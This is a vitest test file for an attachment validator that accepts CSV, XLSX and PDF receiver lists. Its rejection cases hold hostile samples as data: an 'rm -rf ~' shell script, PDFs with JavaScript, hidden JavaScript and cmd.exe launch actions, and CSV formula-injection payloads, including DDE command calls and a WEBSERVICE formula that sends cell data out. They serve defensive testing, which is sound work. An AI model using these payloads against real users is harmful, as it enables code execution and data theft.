import { describe, expect, test } from 'vitest'
import { expectLittleWork } from '#tests/support/processor-time.ts'
import { makeZip } from '#tests/support/zip.ts'
import { ATTACHMENT_MAX_BYTES, checkAttachment } from './check-attachment.ts'

const PDF = '%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n'
const WORKBOOK = ['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml']

describe('a receiver list is known by its content', () => {
  test.each([
    ['a list with commas', Buffer.from('Name,Email\nAnna,anna@example.com\n'), 'csv'],
    ['a list with semicolons and a byte order mark', Buffer.from('\ufeffNaam;E-mail\r\nZoë;zoe@example.com\r\n'), 'csv'],
    ['a list that Excel on Windows wrote', Buffer.from('Name;City\r\nZo\xeb;M\xe1laga\r\n', 'latin1'), 'csv'],
    ['a list of addresses alone', Buffer.from('anna@example.com\nben@example.com'), 'csv'],
    ['telephone numbers and amounts with a sign', Buffer.from('Anna,+44 7700 900123,-25\nBen,+31612345678,25'), 'csv'],
    ['a workbook', makeZip(WORKBOOK), 'xlsx'],
    ['a workbook with printer settings', makeZip([...WORKBOOK, 'xl/printerSettings/printerSettings1.bin']), 'xlsx'],
    ['a document', Buffer.from(PDF), 'pdf'],
  ])('%s', (_sentence, content, type) => {
    expect(checkAttachment(content)).toEqual({ ok: true, value: type })
  })

  test.each([
    ['an empty file', Buffer.alloc(0)],
    ['blank lines', Buffer.from(' \n\n')],
    ['a program', Buffer.from('MZ\x90\0\x03', 'latin1')],
    ['a program for Linux', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
    ['a picture', Buffer.from('\x89PNG\r\n\x1a\n\0\0', 'latin1')],
    ['a web page that is called a list', Buffer.from('<script>alert(1)</script>,a,b\n')],
    ['a drawing', Buffer.from('\n <svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a script', Buffer.from('#!/bin/sh\nrm -rf ~\n')],
    ['rich text', Buffer.from('{\\rtf1 Hello}')],
    ['another archive', makeZip(['readme.txt'])],
    ['a workbook with macros', makeZip([...WORKBOOK, 'xl/vbaProject.bin'])],
    ['a text document of the same maker', makeZip(['[Content_Types].xml', 'word/document.xml'])],
    ['a workbook that is cut off', makeZip(WORKBOOK).subarray(0, 60)],
    ['a document that is cut off', Buffer.from(PDF.replace('%%EOF', ''))],
    ['a document with a script', Buffer.from(PDF.replace('<< >>', '<< /S /JavaScript /JS (app.alert(1)) >>'))],
    ['a document that hides its script', Buffer.from(PDF.replace('<< >>', '<< /S /J#61vaScript /JS (app.alert(1)) >>'))],
    ['a document with a file in it', Buffer.from(PDF.replace('<< >>', '<< /Type /EmbeddedFile >>'))],
    ['a document that starts a program', Buffer.from(PDF.replace('<< >>', '<< /S /Launch /F (cmd.exe) >>'))],
  ])('%s is refused', (_sentence, content) => {
    expect(checkAttachment(content)).toEqual({ ok: false, failure: 'ATTACHMENT_TYPE' })
  })

  test.each([
    '=HYPERLINK("http://x.example")',
    'Anna,=1+1',
    'Anna;"=cmd|x"',
    'Anna,@SUM(A1)',
    'Anna\t+cmd|x',
    '-cmd|x',
    "-2+3+cmd|' /C calc'!A0",
    'Anna,"+1+WEBSERVICE(""http://x.example""&B2)"',
  ])('formulas are refused: %s', (line) => {
    expect(checkAttachment(Buffer.from(`Name,Email\n${line}\n`))).toEqual({ ok: false, failure: 'ATTACHMENT_FORMULA' })
  })

  test.each([
    ...['\n', '"', ',', '\t', ' ', '+', ',"', '\n" ', ',-1 ', '+,', '+1', ',+1'].map((letters) => ['name\n', letters]),
    ...['#61', '/#4a', '/'].map((letters) => [PDF, letters]),
  ])('checking 5 MB of %j and %j takes a moment', async (start = '', letters = '') => {
    const content = Buffer.alloc(ATTACHMENT_MAX_BYTES, letters)
    content.write(start)
    content.write('%%EOF', content.length - 10)
    await expectLittleWork(250, () => checkAttachment(content))
  })

  test('5 MB are accepted, a byte more is not', () => {
    const list = Buffer.alloc(ATTACHMENT_MAX_BYTES + 1, 'anna,')
    expect(checkAttachment(list)).toEqual({ ok: false, failure: 'ATTACHMENT_TOO_LARGE' })
    expect(checkAttachment(list.subarray(1))).toEqual({ ok: true, value: 'csv' })
  })
})
